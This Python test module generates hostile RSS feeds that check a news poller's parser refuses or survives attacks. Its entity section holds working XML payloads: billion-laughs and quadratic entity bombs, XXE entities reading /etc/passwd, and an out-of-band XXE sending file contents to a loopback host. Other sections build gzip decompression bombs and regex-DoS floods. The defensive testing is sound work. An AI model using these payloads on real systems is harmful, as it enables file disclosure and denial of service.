"""A corpus of hostile feeds, generated at test time: no third-party corpus is copied in.

Each ``Case`` is what one source serves on its second poll (the first poll of every source
gets a benign feed, since a source's first poll posts nothing): the body as sent, any
HTTP headers (Content-Encoding for the compression cases), the body once decoded (what
``parse_feed`` would be given; None where decoding it is the attack), the headline of the
one story in it about a tracked item, and what must become of that story:

* ``refused``: the feed is refused whole (``problem`` says how it starts); nothing posted;
* ``posted``: the story survives whatever surrounds it and is posted (exactly as
  ``title``, at ``url`` when given);
* ``not-posted``: the story must not be posted (its link is unusable, the body too big);
* ``any``: no promise beyond the invariants (no crash, bounded, clean, valid posts).

Categories: malformed XML, encodings, entity tricks, compression, sizes, URLs, dates.
Every body is built deterministically; only the "now + n days" dates read the clock.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from typing import Literal
from xml.sax.saxutils import escape, quoteattr

from news.xmlguard import ENTITIES_REFUSED

Outcome = Literal["refused", "posted", "not-posted", "any"]
Category = Literal["malformed", "encoding", "entities", "compression", "size", "url", "date"]

CAP = 2_000_000  # the poller's body cap (services.news.MAX_BODY)
PUBLISHED = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Case:
    name: str
    category: Category
    body: bytes = field(repr=False)
    outcome: Outcome
    title: str = ""  # the story's headline as it must be shown; "" when there is none
    url: str | None = None  # the story's cleaned link, where the case pins it
    headers: tuple[tuple[str, str], ...] = ()
    # The body as parse_feed would get it (decoded); None when decoding it is the attack.
    document: bytes | None = field(default=None, repr=False)
    problem: str | None = None  # how parse_feed's problem starts, for "refused"
    chunked: bool = False  # sent without Content-Length
    # For a date case: the publication time parse_feed must give (None: must be None).
    published: datetime | Literal["unset"] | None = "unset"

    @property
    def parsed_body(self) -> bytes | None:
        return self.body if not self.headers else self.document

    @property
    def over_http(self) -> bool:
        """Whether what becomes of its story is decided by the fetcher, not the parser."""
        return bool(self.headers) or self.chunked or len(self.body) > CAP


def headline(name: str, n: int = 0) -> str:
    """A headline about GSOMIA, unique to a case, far from every other's (no dedup)."""
    digest = hashlib.sha256(f"{name}/{n}".encode()).hexdigest()
    return f"GSOMIA {digest[:6]} {digest[6:12]} {digest[12:18]}"


def link(name: str, n: int = 0) -> str:
    return f"https://news.example/{name}/{n}"


def item(
    title: str,
    url: str | None,
    *,
    guid: str | None = None,
    date: str | None = None,
    description: str = "Story text.",
    raw: bool = False,
    extra: str = "",
) -> str:
    """One RSS item; ``raw`` puts title, link and date in unescaped (they are markup)."""
    esc: Callable[[str], str] = (lambda s: s) if raw else escape
    parts = [f"<title>{esc(title)}</title>"]
    if url is not None:
        parts.append(f"<link>{esc(url)}</link>")
    if guid is not None:
        parts.append(f'<guid isPermaLink="false">{esc(guid)}</guid>')
    parts.append(f"<pubDate>{esc(date if date is not None else _rfc822(PUBLISHED))}</pubDate>")
    parts.append(f"<description>{description if raw else escape(description)}</description>")
    return "<item>" + "".join(parts) + extra + "</item>"


def rss(
    items: list[str] | str,
    *,
    declaration: str = '<?xml version="1.0" encoding="utf-8"?>',
    prolog: str = "",
    channel: str = "",
    root: str = '<rss version="2.0">',
) -> str:
    body = items if isinstance(items, str) else "".join(items)
    return (
        f"{declaration}{prolog}{root}<channel><title>Hostile Wire</title>"
        f"<link>https://news.example/</link><description>d</description>{channel}"
        f"{body}</channel></rss>"
    )


def story_feed(name: str, **kwargs: str) -> str:
    return rss([item(headline(name), link(name), guid=f"{name}-1")], **kwargs)


def benign(name: str) -> bytes:
    """What every source serves on its first poll: one story about nothing tracked."""
    return rss([item(f"Weather in Seoul {name}", link(name, 99), guid=f"{name}-0")]).encode()


def _rfc822(when: datetime) -> str:
    return format_datetime(when, usegmt=True)


def _case(
    name: str,
    category: Category,
    body: bytes | str,
    outcome: Outcome,
    *,
    title: str | None = None,
    **kwargs: object,
) -> Case:
    data = body.encode() if isinstance(body, str) else body
    if title is None:
        title = headline(name) if outcome in ("posted", "not-posted") else ""
    if outcome == "refused" and "problem" not in kwargs:
        kwargs["problem"] = ENTITIES_REFUSED
    return Case(name, category, data, outcome, title=title, **kwargs)  # type: ignore[arg-type]


# -- malformed XML ----------------------------------------------------------------------------


def malformed() -> Iterator[Case]:
    whole = story_feed("truncated").encode()
    for tenth in range(1, 10):
        cut = len(whole) * tenth // 10
        yield _case(f"truncated-{tenth}0pc", "malformed", whole[:cut], "any")
    tail = "</channel></rss>"

    def feed(name: str, inner: str, outcome: Outcome = "any", **kw: str) -> Case:
        return _case(name, "malformed", rss(inner, **kw), outcome)

    t, u = headline, link
    yield _case(
        "unclosed-item",
        "malformed",
        rss("").replace(tail, "")
        + f"<item><title>{t('unclosed-item')}</title><link>{u('unclosed-item')}</link>",
        "any",
    )
    yield feed("mismatched-tags", f"<item><title>{t('mismatched-tags')}</link></title></item>")
    rng = random.Random(10)
    yield _case("random-bytes", "malformed", rng.randbytes(65536), "any")
    yield _case("png-bytes", "malformed", b"\x89PNG\r\n\x1a\n" + rng.randbytes(4096), "any")
    yield _case(
        "html-page",
        "malformed",
        f"<!doctype html><html><head><title>{t('html-page')}</title></head>"
        "<body><p>Not a feed</p></body></html>",
        "not-posted",
        problem="not a feed",
    )
    yield _case(
        "json-body", "malformed", '{"rss": {"item": "GSOMIA"}}', "any", problem="not a feed"
    )
    yield _case("plain-text", "malformed", "GSOMIA is in the news\n" * 100, "any")
    yield _case(
        "two-roots", "malformed", story_feed("two-roots") + story_feed("two-roots-b"), "any"
    )
    yield _case("text-after-root", "malformed", story_feed("text-after-root") + "trailing", "any")
    yield _case(
        "declaration-after-whitespace",
        "malformed",
        "\n\n   " + story_feed("dws"),
        "posted",
        title=t("dws"),
    )
    yield _case(
        "declaration-twice",
        "malformed",
        story_feed("declaration-twice", prolog='<?xml version="1.0"?>'),
        "any",
    )
    # feedparser's first-line encoding regex is cubic in this (40 KB: minutes).
    yield _case(
        "declaration-encoding-flood",
        "malformed",
        "<?" + 'encoding="' * 20_000 + "\n" + story_feed("flood", declaration=""),
        "any",
    )
    yield _case(
        "declaration-encoding-flood-xml",
        "malformed",
        "<?xml " + "encoding='" * 20_000 + "?>" + story_feed("flood-xml", declaration=""),
        "any",
    )
    # feedparser's prolog regexes are quadratic in these.
    yield _case(
        "prolog-newlines",
        "malformed",
        story_feed("prolog-newlines", prolog="\n" * 500_000),
        "refused",
        problem="refused: ",
    )
    yield _case(
        "prolog-entity-no-close",
        "malformed",
        story_feed("prolog-entity-no-close", prolog="\n<!ENTITY" * 50_000),
        "refused",
        problem="refused: ",
    )
    yield _case(
        "prolog-doctype-no-close",
        "malformed",
        story_feed("prolog-doctype-no-close", prolog="\n<!DOCTYPE" * 50_000),
        "refused",
        problem="refused: ",
    )
    yield _case(
        "prolog-just-under-limit",
        "malformed",
        story_feed("prolog-under", prolog="<!--" + "x" * 7_000 + "-->"),
        "posted",
        title=t("prolog-under"),
    )
    yield feed("unterminated-comment", f"<!-- {item(t('uc'), u('uc'))}")
    yield feed("unterminated-cdata", f"<item><title><![CDATA[{t('ucd')}</title></item>")
    yield feed(
        "cdata-end-in-text",
        f"<item><title>{t('cdata-end-in-text')} ]]></title><link>{u('cet')}</link></item>",
    )
    yield feed("nested-cdata", "<item><title><![CDATA[a<![CDATA[b]]>c]]></title></item>")
    yield _case(
        "attribute-without-quotes", "malformed", story_feed("awq", root="<rss version=2.0>"), "any"
    )
    yield _case(
        "duplicate-attributes",
        "malformed",
        story_feed("dupattr", root='<rss version="2.0" version="0.91">'),
        "any",
    )
    # Characters XML forbids are removed before parsing, so the story still reads clean.
    yield _case(
        "nul-in-title",
        "malformed",
        rss([item(t("nul-in-title").replace(" ", " \x00", 1), u("nul-in-title"))]),
        "posted",
    )
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")
    yield _case(
        "c0-controls-in-title",
        "malformed",
        rss([item(t("c0-controls-in-title").replace(" ", f" {controls}"), u("c0"))]),
        "posted",
    )
    # feedparser reads C1 controls as the Windows-1252 characters they usually are.
    yield _case(
        "c1-controls-in-title",
        "malformed",
        rss([item(t("c1-controls-in-title").replace(" ", " \x85\x9b\x80 "), u("c1"))]),
        "any",
    )
    yield _case(
        "bidi-override-in-title",
        "malformed",
        rss([item(t("bidi").replace(" ", " \u202e", 1) + "\u2066", u("bidi"))]),
        "posted",
        title=t("bidi"),
    )
    yield feed(
        "invalid-char-refs",
        item(t("icr") + " &#0;&#xD800;&#xFFFE;&#1;", u("icr"), raw=True),
    )
    yield feed("html-entities", item(t("he") + " &nbsp;&copy;&mdash;", u("he"), raw=True))
    yield feed("bare-ampersand", item(t("ba") + " AT&T & co", u("ba"), raw=True))
    yield feed("lt-in-text", item(t("lt") + " a < b", u("lt"), raw=True))
    yield _case("only-declaration", "malformed", '<?xml version="1.0"?>', "any")
    yield _case("empty-rss", "malformed", '<rss version="2.0"/>', "any")
    yield _case(
        "rss-without-channel",
        "malformed",
        f'<rss version="2.0">{item(t("rwc"), u("rwc"))}</rss>',
        "any",
    )
    yield _case(
        "atom-malformed",
        "malformed",
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>'
        + t("atom-malformed")
        + '</title><link href="'
        + u("atom-malformed")
        + '"/><entry></feed>',
        "any",
    )
    yield _case(
        "rdf-malformed",
        "malformed",
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/"><item><title>' + t("rdf-malformed") + "</title>",
        "any",
    )
    yield _case("whitespace-only", "malformed", " \n\t " * 100, "any")
    yield _case("bom-then-garbage", "malformed", b"\xef\xbb\xbf\x00\x01\x02garbage", "any")
    yield _case(
        "pi-flood",
        "malformed",
        story_feed("pi-flood", channel="<?pi x?>" * 20_000),
        "posted",
        title=t("pi-flood"),
    )
    yield _case(
        "comment-flood",
        "malformed",
        story_feed("comment-flood", channel="<!-- x -->" * 20_000),
        "posted",
        title=t("comment-flood"),
    )
    # Malformed, so read by feedparser's lenient parser, which spends time on every "<".
    for name, flood in (
        ("loose-end-tag-flood", "</x>" * 450_000),
        ("loose-lt-flood", "<" * 1_900_000),
        ("loose-declaration-flood", "<!x>" * 450_000),
    ):
        yield _case(
            name,
            "malformed",
            "junk" + rss([item(headline(name), u(name), description=flood, raw=True)]),
            "any",
        )
    # Control cases: ordinary feeds in each format must still read.
    yield _case("legit-rss", "malformed", story_feed("legit-rss"), "posted", url=u("legit-rss"))
    yield _case(
        "legit-atom",
        "malformed",
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>A</title><id>urn:a</id><updated>2026-11-20T09:00:00Z</updated><entry>"
        f"<title>{t('legit-atom')}</title><id>urn:legit-atom</id>"
        f'<link rel="alternate" href="{u("legit-atom")}"/>'
        "<updated>2026-11-20T09:00:00Z</updated><summary>s</summary></entry></feed>",
        "posted",
        url=u("legit-atom"),
        published=PUBLISHED,
    )
    yield _case(
        "legit-rdf",
        "malformed",
        '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://news.example/">'
        "<title>R</title><link>https://news.example/</link><description>d</description>"
        f'</channel><item rdf:about="{u("legit-rdf")}"><title>{t("legit-rdf")}</title>'
        f"<link>{u('legit-rdf')}</link></item></rdf:RDF>",
        "posted",
    )


# -- encodings --------------------------------------------------------------------------------


def encodings() -> Iterator[Case]:
    def text_feed(name: str, title: str, *, declared: str | None, description: str = "") -> str:
        declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        return rss(
            [item(title, link(name), guid=f"{name}-1", description=description or "Story text.")],
            declaration=declaration,
        )

    def case(
        name: str,
        body: bytes,
        outcome: Outcome,
        title: str = "",
    ) -> Case:
        return _case(name, "encoding", body, outcome, title=title or headline(name))

    ko = "지소미아 연장"
    for codec, bom, declared in (
        ("utf-8", b"\xef\xbb\xbf", "utf-8"),
        ("utf-16-le", b"\xff\xfe", "utf-16"),
        ("utf-16-be", b"\xfe\xff", "utf-16"),
        ("utf-32-le", b"\xff\xfe\x00\x00", "utf-32"),
        ("utf-32-be", b"\x00\x00\xfe\xff", "utf-32"),
    ):
        name = f"{codec}-bom"
        title = f"{headline(name)} {ko}"
        yield case(
            name, bom + text_feed(name, title, declared=declared).encode(codec), "posted", title
        )
        if codec != "utf-8":
            name = f"{codec}-no-bom"
            title = f"{headline(name)} {ko}"
            body = text_feed(name, title, declared=declared).encode(codec)
            yield case(name, body, "posted", title)
    name = "utf-16-odd-length"
    yield case(
        name, text_feed(name, headline(name), declared="utf-16").encode("utf-16")[:-1], "any"
    )
    name = "utf-16-unpaired-surrogate"
    body = text_feed(name, headline(name), declared="utf-16", description="XSURX").encode("utf-16")
    yield case(name, body.replace("XSURX".encode("utf-16-le"), b"\x00\xd8\x41\x00"), "posted")
    name = "declared-utf-16-actually-utf-8"
    yield case(
        name,
        text_feed(name, f"{headline(name)} {ko}", declared="utf-16").encode(),
        "posted",
        f"{headline(name)} {ko}",
    )
    name = "declared-utf-8-actually-cp1252"
    title = f"{headline(name)} Séoul café"
    yield case(name, text_feed(name, title, declared="utf-8").encode("cp1252"), "posted", title)
    name = "declared-latin-1-actually-utf-8"
    yield case(
        name, text_feed(name, f"{headline(name)} {ko}", declared="iso-8859-1").encode(), "any"
    )
    for codec, declared, words in (
        ("shift_jis", "Shift_JIS", "日韓秘密軍事情報保護協定"),
        ("euc_kr", "EUC-KR", ko),
        ("cp949", "ks_c_5601-1987", "똠방각하 " + ko),  # 똠: UHC only, not in EUC-KR
        ("cp949", "euc-kr", "똠방각하 " + ko),
        ("gb18030", "gb2312", "军事情报保护协定 䶮"),  # 䶮: GB18030 only
        ("big5", "big5", "軍事情報保護協定"),
        ("iso2022_jp", "ISO-2022-JP", "日韓秘密軍事情報保護協定"),
        ("koi8_r", "koi8-r", "Соглашение"),
        ("cp1251", "windows-1251", "Соглашение"),
        ("cp037", "IBM037", "EBCDIC story"),
    ):
        name = f"{codec}-declared-{declared.lower()}"
        title = f"{headline(name)} {words}"
        yield case(name, text_feed(name, title, declared=declared).encode(codec), "posted", title)
    name = "declared-euc-kr-actually-utf-8"
    title = f"{headline(name)} {ko}"
    yield case(name, text_feed(name, title, declared="EUC-KR").encode(), "posted", title)
    name = "declared-shift-jis-actually-utf-8"
    yield case(
        name, text_feed(name, f"{headline(name)} {ko}", declared="Shift_JIS").encode(), "any"
    )
    name = "shift-jis-invalid-bytes"
    body = text_feed(name, headline(name), declared="Shift_JIS", description="XBADX").encode(
        "shift_jis"
    )
    yield case(name, body.replace(b"XBADX", b"\x81\x39\xff\xfe"), "posted")
    name = "utf-8-few-invalid-bytes"
    body = text_feed(name, headline(name), declared="utf-8", description="XBADX").encode()
    yield case(name, body.replace(b"XBADX", b"\xff\xfe\xc3"), "posted")
    name = "utf-8-many-invalid-bytes"
    body = text_feed(name, headline(name), declared=None, description="é" * 500).encode("cp1252")
    yield case(name, body, "posted")
    name = "utf-8-overlong"
    body = text_feed(name, headline(name), declared="utf-8", description="XBADX").encode()
    yield case(name, body.replace(b"XBADX", b"\xc0\xaf\xe0\x80\xaf"), "posted")
    name = "utf-8-encoded-surrogates"
    body = text_feed(name, headline(name), declared="utf-8", description="XBADX").encode()
    yield case(name, body.replace(b"XBADX", b"\xed\xa0\x80\xed\xbf\xbf"), "posted")
    name = "utf-8-cp1252-quote-in-title"
    body = text_feed(name, headline(name) + " XQX", declared="utf-8").encode()
    yield case(name, body.replace(b"XQX", b"\x93quoted\x94"), "any")
    for declared in ("x-klingon", "unicode_escape", "punycode", "idna", "rot13", "zlib", "UTF-7"):
        name = f"declared-{declared.lower().replace('_', '-')}"
        yield case(name, text_feed(name, headline(name), declared=declared).encode(), "posted")
    name = "declared-encoding-name-overlong"
    yield case(name, text_feed(name, headline(name), declared="u" * 200).encode(), "posted")
    name = "declared-in-single-quotes"
    body = text_feed(name, headline(name), declared=None).encode("cp1252")
    yield case(name, b"<?xml version='1.0' encoding='windows-1252'?>" + body, "posted")
    name = "bom-utf-8-declared-utf-16"
    title = f"{headline(name)} {ko}"
    yield case(
        name, b"\xef\xbb\xbf" + text_feed(name, title, declared="utf-16").encode(), "posted", title
    )
    name = "bom-utf-16-declared-utf-8"
    title = f"{headline(name)} {ko}"
    yield case(name, text_feed(name, title, declared="utf-8").encode("utf-16"), "posted", title)
    name = "cp1252-undefined-bytes"
    body = text_feed(name, headline(name), declared="windows-1252", description="XBADX").encode()
    yield case(name, body.replace(b"XBADX", b"\x81\x8d\x8f\x90\x9d"), "posted")
    name = "bom-in-description"
    yield case(
        name,
        text_feed(name, headline(name), declared="utf-8", description="a\ufeffb").encode(),
        "posted",
    )
    name = "nul-interleaved-ascii"
    yield case(name, b"\x00".join(bytes([c]) for c in story_feed(name).encode()), "any")


# -- entity tricks ----------------------------------------------------------------------------


def laughs(levels: int = 10, width: int = 10) -> list[str]:
    declarations = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        declarations.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * width}">')
    return declarations


def bomb_feed(name: str, subset: str, *, title_ref: str = "&lol9;", doctype: str = "rss") -> str:
    story = f"<item><title>{headline(name)} {title_ref}</title><link>{link(name)}</link></item>"
    return rss(story, prolog=f"<!DOCTYPE {doctype} [{subset}]>")


def entities() -> Iterator[Case]:
    def refused(name: str, body: bytes | str, problem: str = ENTITIES_REFUSED) -> Case:
        return _case(name, "entities", body, "refused", problem=problem)

    lines = "\n".join(laughs())
    one_line = "".join(laughs())
    yield refused("billion-laughs-multiline", bomb_feed("bl-multi", f"\n{lines}\n"))
    yield refused("billion-laughs-one-line", bomb_feed("bl-one", one_line))
    for codec, bom in (
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b""),
        ("utf-32-le", b"\xff\xfe\x00\x00"),
        ("utf-32-be", b""),
    ):
        body = bomb_feed(f"bl-{codec}", one_line).replace("utf-8", codec[:6])
        yield refused(f"billion-laughs-{codec}{'-bom' if bom else ''}", bom + body.encode(codec))
    yield refused(
        "billion-laughs-shift-jis",
        bomb_feed("bl-sjis", one_line).replace("utf-8", "Shift_JIS").encode("shift_jis"),
    )
    yield refused(
        "billion-laughs-ebcdic",
        bomb_feed("bl-ebcdic", one_line).replace("utf-8", "IBM037").encode("cp037"),
    )
    attr_story = (
        f"<item><title>{headline('bl-attr')}</title><link>{link('bl-attr')}</link>"
        '<category domain="&lol9;">x</category></item>'
    )
    yield refused(
        "billion-laughs-in-attribute", rss(attr_story, prolog=f"<!DOCTYPE rss [{one_line}]>")
    )
    yield refused("billion-laughs-wide", bomb_feed("bl-wide", "".join(laughs(4, 1000))))
    yield refused(
        "billion-laughs-deep", bomb_feed("bl-deep", "".join(laughs(40, 2)), title_ref="&lol39;")
    )
    # Linear amplification: one big entity, many references (what got through before).
    big = "x" * 100_000
    yield refused(
        "quadratic-blowup",
        bomb_feed("qb", f'<!ENTITY big "{big}">', title_ref="&big;" * 10_000),
    )
    yield refused(
        "quadratic-blowup-near-cap",
        bomb_feed("qbn", f'<!ENTITY big "{"x" * 900_000}">', title_ref="&big;" * 200_000),
    )
    for name, subset in (
        ("xxe-file-passwd", '<!ENTITY xxe SYSTEM "file:///etc/passwd">'),
        ("xxe-http-loopback", '<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">'),
        ("xxe-public-id", '<!ENTITY xxe PUBLIC "-//X//EN" "file:///etc/passwd">'),
        ("xxe-relative", '<!ENTITY xxe SYSTEM "../../../../etc/passwd">'),
    ):
        yield refused(name, bomb_feed(name, subset, title_ref="&xxe;"))
    yield refused(
        "parameter-entity-external",
        bomb_feed("pe-ext", '<!ENTITY % pe SYSTEM "file:///etc/passwd"> %pe;', title_ref=""),
    )
    yield refused(
        "parameter-entity-internal",
        bomb_feed("pe-int", "<!ENTITY % pe \"<!ENTITY x 'y'>\"> %pe;", title_ref="&x;"),
    )
    yield refused(
        "parameter-entity-nested",
        bomb_feed(
            "pe-nest",
            '<!ENTITY % a "aaaa"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;">',
            title_ref="",
        ),
    )
    yield refused(
        "parameter-entity-xxe-oob",
        bomb_feed(
            "pe-oob",
            '<!ENTITY % file SYSTEM "file:///etc/passwd">'
            "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">"
            "%eval; %exfil;",
            title_ref="",
        ),
    )
    yield refused(
        "unparsed-entity-ndata",
        bomb_feed(
            "ndata", '<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "x.bin" NDATA n>', title_ref=""
        ),
    )
    # After a reference to an unread parameter entity expat skips later declarations:
    # only its default handler sees them.
    yield refused(
        "skipped-after-undeclared-pe",
        rss(
            item(headline("skip-pe"), link("skip-pe")),
            prolog=f'<!DOCTYPE rss SYSTEM "x.dtd" [ %undeclared; {one_line} ]>',
        ),
    )
    yield refused(
        "standalone-with-entities",
        bomb_feed("standalone", one_line).replace("?>", ' standalone="yes"?>', 1),
    )
    # The old text scan's blind spots: comment and CDATA openers inside quoted strings.
    yield refused(
        "comment-opener-in-quoted-string",
        bomb_feed(
            "coqs",
            '<!ATTLIST rss x CDATA "<!--">' + one_line + '<!ATTLIST rss y CDATA "-->">',
        ),
    )
    yield refused(
        "comment-opener-in-system-literal",
        rss(
            item(headline("cosl"), link("cosl")),
            prolog=f'<!DOCTYPE rss SYSTEM "<!--" [{one_line}]><!-- -->',
        ),
    )
    yield refused(
        "cdata-opener-in-quoted-string",
        bomb_feed(
            "cdqs",
            '<!ATTLIST rss x CDATA "<![CDATA[">' + one_line + '<!ATTLIST rss y CDATA "]]>">',
        ),
    )
    yield refused(
        "comment-opener-in-pi",
        rss(
            item(headline("copi") + " &lol9;", link("copi")),
            prolog=f"<?pi <!-- ?><!DOCTYPE rss [{one_line}]><?pi --> ?>",
        ),
    )
    yield refused(
        "comment-opener-in-entity-value",
        bomb_feed("coev", '<!ENTITY c "<!--">' + one_line + '<!ENTITY d "-->">'),
    )
    # feedparser re-declares entity lines it finds before the first element, comments or
    # not, when there is one DOCTYPE: its lenient parser then expands them.
    yield refused(
        "entity-lines-in-comment-with-doctype",
        rss(
            item(headline("elc") + " &big;", link("elc")),
            prolog='<!DOCTYPE rss>\n<!--\n<!ENTITY big "' + "x" * 1000 + '">\n-->\n',
        ),
    )
    # A safe-looking entity and a body the strict parser gives up on: the lenient
    # parser would expand it 100,000 times.
    yield refused(
        "safe-entity-in-malformed-body",
        rss(
            f"<item><title>{headline('semb')}</title><link>{link('semb')}</link>"
            f"<description>{'&e;' * 100_000}</description><unclosed></item>",
            prolog='<!DOCTYPE rss [\n<!ENTITY e "' + "y" * 10_000 + '">\n]>\n',
        ),
    )
    yield refused(
        "doctype-lower-case", bomb_feed("dlc", one_line).replace("<!DOCTYPE", "<!doctype")
    )
    yield refused("entity-lower-case", bomb_feed("elc2", one_line.replace("<!ENTITY", "<!entity")))
    yield refused(
        "garbage-before-doctype",
        rss(item(headline("gbd"), link("gbd")), prolog=f"junk <!DOCTYPE rss [{one_line}]>"),
    )
    yield refused(
        "malformed-dtd-before-entity",
        bomb_feed("mdbe", "<!ELEMENT broken " + one_line),
    )
    yield refused(
        "unterminated-doctype",
        f'<?xml version="1.0"?><!DOCTYPE rss [{one_line}<rss><channel>'
        f"<item><title>{headline('ud')} &lol9;</title></item></channel></rss>",
    )
    yield refused(
        "two-doctypes",
        rss(
            item(headline("two-doctypes") + " &lol9;", link("two-doctypes")),
            prolog=f"<!DOCTYPE rss><!DOCTYPE rss [{one_line}]>",
        ),
    )
    yield refused(
        "nul-inside-entity-keyword",
        bomb_feed("nik", one_line.replace("<!ENTITY", "<!EN\x00TITY")),
    )
    yield refused(
        "doctype-whitespace",
        bomb_feed("dws2", one_line).replace("<!DOCTYPE rss [", "<!DOCTYPE\n\trss\r\n  [\n"),
    )
    yield refused(
        "entity-decl-after-big-comment",
        bomb_feed("edabc", "<!--" + "c" * 6000 + "-->" + one_line),
    )
    yield refused(
        "entities-past-prolog-limit",
        bomb_feed("eppl", "<!--" + "c" * 20_000 + "-->" + one_line),
        problem="refused: ",
    )
    yield refused(
        "doctype-in-bom-and-whitespace",
        b"\xef\xbb\xbf  \n" + bomb_feed("dibw", one_line).encode(),
    )
    yield refused(
        "entity-ref-in-doctype-name",
        bomb_feed("erdn", one_line, doctype="rss"),  # the plain one, as a baseline
    )
    # Not refused, and harmless: no parser reads these as declarations.
    yield _case(
        "entity-text-in-prolog-comment",
        "entities",
        rss(item(headline("etpc"), link("etpc")), prolog=f"<!-- {one_line} -->"),
        "posted",
        title=headline("etpc"),
    )
    yield _case(
        "entity-text-in-cdata",
        "entities",
        rss(
            item(
                headline("etcd"),
                link("etcd"),
                description=f"<![CDATA[How XML bombs work: {one_line}]]>",
                raw=True,
            )
        ),
        "posted",
        title=headline("etcd"),
    )
    yield _case(
        "doctype-after-root",
        "entities",
        f'<?xml version="1.0"?><rss version="2.0"><!DOCTYPE rss [{one_line}]><channel>'
        f"<item><title>{headline('dar')} &lol9;</title><link>{link('dar')}</link></item>"
        "</channel></rss>",
        "any",
    )
    yield _case(
        "utf-7-declared-entities",
        "entities",
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE rss +AFs-+ADw-!ENTITY a "b"+AD4-'
        "+AF0-+AD4-" + story_feed("u7de", declaration=""),
        "any",
    )
    yield _case(
        "external-dtd-netscape",
        "entities",
        story_feed(
            "netscape",
            prolog='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        ),
        "posted",
        title=headline("netscape"),
    )
    yield _case(
        "external-dtd-file",
        "entities",
        story_feed("extdtd", prolog='<!DOCTYPE rss SYSTEM "file:///etc/passwd">'),
        "posted",
        title=headline("extdtd"),
    )
    yield _case(
        "xinclude-passwd",
        "entities",
        rss(
            item(headline("xinc"), link("xinc")),
            root='<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">',
            channel='<xi:include href="file:///etc/passwd" parse="text"/>',
        ),
        "posted",
        title=headline("xinc"),
    )
    yield _case(
        "undeclared-entity-reference",
        "entities",
        rss(item(headline("uer") + " &xxe;", link("uer"), raw=True)),
        "any",
    )
    yield _case(
        "attlist-only-subset",
        "entities",
        story_feed("attl", prolog='<!DOCTYPE rss [<!ATTLIST rss x CDATA "y">]>'),
        "any",
    )


# -- compression ------------------------------------------------------------------------------


def _zeros_gzip(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (1 << 20)
    out = [compressor.compress(chunk) for _ in range(size >> 20)]
    return b"".join([*out, compressor.flush()])


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


@functools.cache
def compression() -> tuple[Case, ...]:
    """Cached: the bombs take a second to make, and every run of the tests wants them."""
    return tuple(_compression())


def _compression() -> Iterator[Case]:
    def served(
        name: str, body: bytes, coding: str, outcome: Outcome, document: bytes | None = None
    ) -> Case:
        return _case(
            name,
            "compression",
            body,
            outcome,
            headers=(("Content-Encoding", coding),),
            document=document,
        )

    def feed(name: str) -> bytes:
        return story_feed(name).encode()

    yield served("gzip", gzip.compress(feed("gzip")), "gzip", "posted", feed("gzip"))
    yield served("x-gzip", gzip.compress(feed("x-gzip")), "x-gzip", "posted", feed("x-gzip"))
    yield served(
        "deflate-zlib",
        zlib.compress(feed("deflate-zlib")),
        "deflate",
        "posted",
        feed("deflate-zlib"),
    )
    yield served(
        "deflate-raw", _raw_deflate(feed("deflate-raw")), "deflate", "posted", feed("deflate-raw")
    )
    yield served("identity", feed("identity"), "identity", "posted", feed("identity"))
    twice = gzip.compress(gzip.compress(feed("stacked-gzip-gzip")))
    yield served("stacked-gzip-gzip", twice, "gzip, gzip", "not-posted", feed("stacked-gzip-gzip"))
    mixed = gzip.compress(zlib.compress(feed("stacked-deflate-gzip")))
    yield served(
        "stacked-deflate-gzip", mixed, "deflate, gzip", "not-posted", feed("stacked-deflate-gzip")
    )
    yield served(
        "stacked-identity-gzip",
        gzip.compress(feed("stacked-identity-gzip")),
        "identity, gzip",
        "any",
        feed("stacked-identity-gzip"),
    )
    bomb = _zeros_gzip(200 << 20)
    yield served("gzip-bomb-zeros", bomb, "gzip", "not-posted")
    yield served("gzip-bomb-stacked", gzip.compress(bomb), "gzip, gzip", "not-posted")
    spaces = story_feed("gzip-bomb-feed", channel=" " * (50 << 20)).encode()
    yield served("gzip-bomb-feed", gzip.compress(spaces, 6), "gzip", "not-posted")
    yield served(
        "deflate-bomb-raw",
        _raw_deflate(b"\0" * (100 << 20)),
        "deflate",
        "not-posted",
    )
    whole = gzip.compress(feed("gzip-truncated"))
    yield served("gzip-truncated", whole[: len(whole) // 2], "gzip", "any")
    yield served(
        "gzip-trailing-garbage",
        gzip.compress(feed("gzip-trailing-garbage")) + b"garbage" * 10,
        "gzip",
        "any",
        feed("gzip-trailing-garbage"),
    )
    yield served("gzip-header-plain-body", feed("gzip-header-plain-body"), "gzip", "not-posted")
    yield served(
        "gzip-corrupt-crc", gzip.compress(feed("gzip-corrupt-crc"))[:-8] + b"\0" * 8, "gzip", "any"
    )
    bomb_doc = bomb_feed("gzip-entity-bomb", "".join(laughs())).encode()
